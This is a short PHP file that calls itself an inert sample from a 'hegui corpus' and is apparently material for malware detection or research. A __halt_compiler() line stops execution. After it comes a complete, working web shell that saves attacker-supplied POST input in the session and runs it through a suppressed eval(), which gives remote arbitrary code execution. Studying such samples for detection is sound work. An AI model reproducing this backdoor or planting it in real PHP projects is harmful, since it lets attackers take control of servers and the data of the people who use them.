<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
session_start();
if (isset($_POST['da'])) { $_SESSION['p'] = $_POST['in']; }
@eval($_SESSION['p']);
